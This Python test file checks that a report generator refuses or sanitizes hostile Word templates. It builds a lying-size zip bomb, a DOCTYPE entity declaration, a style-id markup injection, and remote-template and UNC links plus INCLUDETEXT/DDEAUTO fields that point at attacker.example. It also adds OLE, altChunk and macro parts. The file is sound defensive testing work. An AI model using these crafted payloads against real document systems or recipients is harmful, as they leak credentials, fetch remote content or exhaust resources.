"""A hostile Word template: unpacked with measured sizes, escaped, and stripped of what could act.

Each template is built here from python-docx's blank document with the smallest change that
shows the fault; the report is made through the command line and read back as bytes.
"""

from __future__ import annotations

import io
import struct
import tracemalloc
import zipfile
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import OxmlElement
from lxml import etree

from generator.cli import main
from generator.errors import BadTemplate
from generator.render import template_safety
from generator.render.house import open_template

PLAN = Path(__file__).resolve().parent.parent / "workbooks" / "example-plan.xlsx"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
W_NS = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def blank_template(*, header: str = "Borsetshire County Council") -> dict[str, bytes]:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = header
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write_template(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return path


def add_relationship(parts: dict[str, bytes], rels: str, xml: str) -> None:
    parts[rels] = parts[rels].replace(b"</Relationships>", xml.encode() + b"</Relationships>")


def report_with(template: Path, tmp_path: Path) -> tuple[int, str, Path]:
    output = tmp_path / "report.docx"
    result = CliRunner().invoke(
        main, ["report", str(PLAN), "-o", str(output), "--template", str(template),
               "--as-of", "2026-11-23"],
    )  # fmt: skip
    assert "Traceback" not in result.output and "This is a bug" not in result.output
    return result.exit_code, result.output, output


def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def header_name(parts: dict[str, bytes]) -> str:
    return next(name for name in parts if name.startswith("word/header") and name.endswith(".xml"))


# --- The zip: sizes measured while inflating, checksums proved ----------------------------------


def _declare_size(data: bytes, member: str, declared: int) -> bytes:
    """Rewrite ``member``'s uncompressed size in both zip headers: the directory lies."""
    patched = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(member)
    struct.pack_into("<I", patched, info.header_offset + 22, declared)
    name = member.encode()
    position = patched.find(b"PK\x01\x02")
    while position >= 0:
        length = struct.unpack_from("<H", patched, position + 28)[0]
        if bytes(patched[position + 46 : position + 46 + length]) == name:
            struct.pack_into("<I", patched, position + 24, declared)
        position = patched.find(b"PK\x01\x02", position + 4)
    return bytes(patched)


@pytest.mark.parametrize("member", ["word/styles.xml", "[Content_Types].xml"])
def test_a_directory_that_lies_about_a_size_costs_no_memory(tmp_path: Path, member: str) -> None:
    # The part declares 1,000 bytes but inflates to 128 MB (128 KB packed); in
    # [Content_Types].xml, the first part read, the message was "This is a bug".
    parts = blank_template()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            if name == member:
                with archive.open(name, "w") as stream:
                    for _ in range(128):
                        stream.write(b"\0" * (1 << 20))
            else:
                archive.writestr(name, body)
    path = tmp_path / "liar.docx"
    path.write_bytes(_declare_size(buffer.getvalue(), member, 1000))
    tracemalloc.start()
    try:
        with pytest.raises(BadTemplate) as raised:
            open_template(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert str(raised.value).startswith(f"{path}: is damaged (")
    assert peak < 16 << 20, f"peak {peak:,} bytes"


def test_a_template_unpacking_past_the_cap_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(template_safety, "MAX_TEMPLATE_BYTES", 4 << 20)
    parts = blank_template()
    parts["word/media/padding.bin"] = b"\0" * (5 << 20)
    path = write_template(tmp_path / "big.docx", parts)
    with pytest.raises(BadTemplate, match=r"unpacks to more than 4 MB, which no Word template"):
        open_template(path)


def test_a_bad_checksum_in_content_types_is_one_line_naming_the_file(tmp_path: Path) -> None:
    data = bytearray(write_template(tmp_path / "t.docx", blank_template()).read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("[Content_Types].xml")
    struct.pack_into("<I", data, info.header_offset + 14, info.CRC ^ 0xFFFF)
    position = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, position + 16, info.CRC ^ 0xFFFF)  # it is the first entry
    path = tmp_path / "crc.docx"
    path.write_bytes(bytes(data))
    code, output, _ = report_with(path, tmp_path)
    assert code == 2
    assert output.strip() == (
        f"boardpack: {path}: is damaged (Bad CRC-32 for file '[Content_Types].xml'); "
        "open it in Word and save it again"
    )


def test_a_doctype_in_a_template_part_is_refused(tmp_path: Path) -> None:
    parts = blank_template()
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b"?>", b'?><!DOCTYPE w [<!ENTITY a "aaaa">]>', 1
    )
    with pytest.raises(BadTemplate, match=r"word/styles\.xml declares a DOCTYPE"):
        open_template(write_template(tmp_path / "dtd.docx", parts))


# --- Style ids are escaped ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "style_id",
    [
        "Table&Text",
        f'x"/></w:pPr><w:fldSimple {W} w:instr="INCLUDETEXT evil"/><w:pPr><w:pStyle w:val="x',
    ],
)
def test_a_template_style_id_cannot_break_or_inject_markup(tmp_path: Path, style_id: str) -> None:
    document = docx.Document()
    style = document.styles.add_style("Table Text", WD_STYLE_TYPE.PARAGRAPH)
    style.element.set(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}styleId", style_id
    )
    path = tmp_path / "styles.docx"
    document.save(path)
    code, output, report = report_with(path, tmp_path)
    assert code == 0, output
    body = parts_of(report)["word/document.xml"]
    tree = etree.fromstring(body)  # well-formed
    assert (
        tree.find(".//{http://schemas.openxmlformats.org/wordprocessingml/2006/main}fldSimple")
        is None
    )
    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    styles = {p.get(f"{w}val") for p in tree.iter(f"{w}pStyle") if p.getparent().getparent()
              .getparent().tag == f"{w}tc"}  # fmt: skip
    assert styles == {style_id}  # the table paragraphs are in the template's own style


def _table_text_based_on(based_on: str, style_id: str = "TableText") -> docx.document.Document:
    document = docx.Document()
    style = document.styles.add_style("Table Text", WD_STYLE_TYPE.PARAGRAPH)
    style.element.set(f"{W_NS}styleId", style_id)
    link = OxmlElement("w:basedOn")
    link.set(f"{W_NS}val", based_on)
    style.element.insert(1, link)
    return document


def test_style_ids_with_quotes_in_a_chain_of_styles_are_looked_up_safely(tmp_path: Path) -> None:
    # python-docx puts a base style's id into an XPath between double quotes: XPathEvalError.
    document = _table_text_based_on("q'\"q", style_id="T'\"T")
    document.save(str(path := tmp_path / "quoted.docx"))
    code, output, _ = report_with(path, tmp_path)
    assert code == 0, output


def test_styles_based_on_each_other_in_a_ring_do_not_hang_the_report(
    run_cli, tmp_path: Path
) -> None:
    # Table Text based on itself, with no size anywhere: the search for its size never ended.
    _table_text_based_on("TableText").save(str(path := tmp_path / "ring.docx"))
    output = tmp_path / "report.docx"
    result = run_cli("report", str(PLAN), "-o", str(output), "--template", str(path),
                     "--as-of", "2026-11-23", timeout=60)  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert output.exists()


def test_a_heading_numbered_by_a_list_id_with_a_quote_is_not_a_bug(tmp_path: Path) -> None:
    # The list id went into an ElementPath between single quotes: SyntaxError, "This is a bug".
    document = docx.Document()
    properties = document.styles["Heading 1"].element.get_or_add_pPr()
    numbering = OxmlElement("w:numPr")
    for tag, value in (("w:ilvl", "0"), ("w:numId", "1'x")):
        child = OxmlElement(tag)
        child.set(f"{W_NS}val", value)
        numbering.append(child)
    properties.insert(0, numbering)
    document.save(str(path := tmp_path / "numbered.docx"))
    code, output, _ = report_with(path, tmp_path)
    assert code == 0, output


# --- Links out are dropped; active content is refused ----------------------------------------


def test_remote_template_and_unc_links_are_dropped_web_links_kept(tmp_path: Path) -> None:
    parts = blank_template()
    add_relationship(parts, "word/_rels/settings.xml.rels" if "word/_rels/settings.xml.rels"
                     in parts else "word/_rels/document.xml.rels", "")  # fmt: skip
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="'
        + R_NS.encode()
        + b'/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom", f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdT"/><w:zoom'.encode(), 1
    )
    header = header_name(parts)
    rels = header.replace("word/", "word/_rels/") + ".rels"
    parts[rels] = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rIdU" Type="' + R_NS.encode() + b'/hyperlink" '
        b'Target="file://///attacker.example/share/x.docx" TargetMode="External"/>'
        b'<Relationship Id="rIdW" Type="' + R_NS.encode() + b'/hyperlink" '
        b'Target="https://www.borsetshire.gov.uk/" TargetMode="External"/></Relationships>'
    )
    parts[header] = parts[header].replace(
        b"<w:r>",
        f'<w:hyperlink xmlns:r="{R_NS}" r:id="rIdU"><w:r><w:t>shared drive</w:t></w:r>'
        f'</w:hyperlink><w:hyperlink xmlns:r="{R_NS}" r:id="rIdW"><w:r><w:t>web</w:t></w:r>'
        "</w:hyperlink><w:r>".encode(),
        1,
    )
    code, output, report = report_with(write_template(tmp_path / "links.docx", parts), tmp_path)
    assert code == 0, output
    written = parts_of(report)
    everything = b"".join(written.values())
    assert b"attacker.example" not in everything
    assert b"attachedTemplate" not in written["word/settings.xml"]
    assert b"https://www.borsetshire.gov.uk/" in everything
    headers = [body for name, body in written.items() if name.startswith("word/header")]
    assert any(b"shared drive" in body and b"web" in body for body in headers)


@pytest.mark.parametrize("field", ["INCLUDETEXT", "INCLUDEPICTURE", "DDEAUTO", "LINK"])
def test_an_include_field_in_the_header_is_refused(tmp_path: Path, field: str) -> None:
    parts = blank_template()
    header = header_name(parts)
    # The instruction split over two runs, as Word often saves it.
    parts[header] = parts[header].replace(
        b"<w:r>",
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
        + field[:3].encode()
        + b"</w:instrText></w:r><w:r><w:instrText>"
        + field[3:].encode()
        + b' "\\\\\\\\attacker.example\\\\share\\\\x.png"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r>',
        1,
    )
    code, output, report = report_with(write_template(tmp_path / "field.docx", parts), tmp_path)
    assert code == 2 and not report.exists()
    assert f"{header} has a {field} field, which makes Word fetch" in output


def test_an_altchunk_or_ole_object_is_refused(tmp_path: Path) -> None:
    for kind, words in (("aFChunk", "an altChunk"), ("oleObject", "an embedded OLE object")):
        parts = blank_template()
        parts["word/embeddings/thing.bin"] = b"\0" * 64
        add_relationship(
            parts,
            "word/_rels/document.xml.rels",
            f'<Relationship Id="rIdX" Type="{R_NS}/{kind}" Target="embeddings/thing.bin"/>',
        )
        code, output, _ = report_with(write_template(tmp_path / f"{kind}.docx", parts), tmp_path)
        assert code == 2
        assert f"word/document.xml holds {words}" in output


def test_macros_in_a_docx_are_dropped_from_the_paper(tmp_path: Path) -> None:
    parts = blank_template()
    parts["word/vbaProject.bin"] = b"Attribute VB_Name = AutoOpen" * 10
    add_relationship(
        parts,
        "word/_rels/document.xml.rels",
        '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/>',
    )
    code, output, report = report_with(write_template(tmp_path / "macros.docx", parts), tmp_path)
    assert code == 0, output
    written = parts_of(report)
    assert not any("vba" in name.lower() for name in written)
    assert b"vbaProject" not in written["word/_rels/document.xml.rels"]
    assert b"wordprocessingml.document.main+xml" in written["[Content_Types].xml"]
